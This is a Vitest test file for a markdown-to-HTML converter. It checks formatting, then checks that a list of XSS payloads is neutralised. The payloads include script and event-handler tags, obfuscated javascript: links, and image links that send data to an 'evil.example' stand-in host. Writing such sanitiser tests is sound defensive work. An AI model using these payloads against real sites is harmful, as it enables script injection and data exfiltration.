// @vitest-environment node
import { describe, expect, test } from 'vitest'
import { markdownToHtml } from './to-html.ts'

test('light markdown becomes the HTML that word processors understand', () => {
  expect(markdownToHtml('# Nurse\n\nWe **care**, *always*.\n\n- one\n- two\n\n3. three\n4. four')).toBe(
    [
      '<h1>Nurse</h1>',
      '<p>We <strong>care</strong>, <em>always</em>.</p>',
      '<ul><li>one</li><li>two</li></ul>',
      '<ol start="3"><li>three</li><li>four</li></ol>',
    ].join('\n'),
  )
})

test('tables keep the alignment of their columns', () => {
  expect(markdownToHtml('| a | b |\n|--|--:|\n| 1 | 2 |')).toBe(
    '<table><thead><tr><th>a</th><th align="right">b</th></tr></thead><tbody><tr><td>1</td><td align="right">2</td></tr></tbody></table>',
  )
})

describe('hostile text stays text', () => {
  const HOSTILE = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg/onload=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    'x <b onmouseover="alert(1)">y</b>',
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](java&#115;cript:alert(1))',
    '[x](&#9;javascript:alert(1))',
    '[x](data:text/html;base64,PHNjcmlwdD4=)',
    '[x](vbscript:msgbox)',
    '[x](file:///etc/passwd)',
    '[x](//evil.example/steal)',
    '[x](/api/auth/logout)',
    '<javascript:alert(1)>',
    '![secret](https://evil.example/?q=salary)',
    '[![i](https://evil.example/i.png)](https://ok.example)',
    '[x][1]\n\n[1]: javascript:alert(1)',
    '![x][1]\n\n[1]: https://evil.example/i.png',
    '```html\n<script>alert(1)</script>\n```',
    '| <img src=x> | [x](javascript:1) |\n|-|-|\n| ![](https://evil.example) | b |',
    '[x](https://ok.example" onclick="alert(1))',
    '[x](<https://ok.example/" onmouseover="alert(1)>)',
  ]

  test.each(HOSTILE)('%s', (text) => {
    const page = document(markdownToHtml(text))
    expect(page.tags.filter((tag) => /^(script|img|svg|iframe|object|style|b)$/.test(tag))).toEqual([])
    for (const [name, value] of page.attributes) {
      expect(['href', 'target', 'rel', 'referrerPolicy', 'start', 'align']).toContain(name)
      if (name === 'href') expect(value).toMatch(/^(https?:\/\/|mailto:)/)
    }
  })
})

test('links that only open a page or a letter stay links', () => {
  expect(markdownToHtml('[us](https://ok.example) [mail](mailto:hr@ok.example)')).toContain(
    'href="mailto:hr@ok.example"',
  )
})

/** The tags and attributes that a browser would see: everything else in our HTML has its brackets escaped. */
function document(html: string) {
  const tags: string[] = []
  const attributes: [string, string][] = []
  for (const [, tag, rest] of html.matchAll(/<([a-z][\w-]*)([^>]*)>/gi)) {
    tags.push(tag!.toLowerCase())
    for (const [, name, value] of rest!.matchAll(/\s([^\s=]+)="([^"]*)"/g)) attributes.push([name!, value!])
  }
  return { tags, attributes }
}
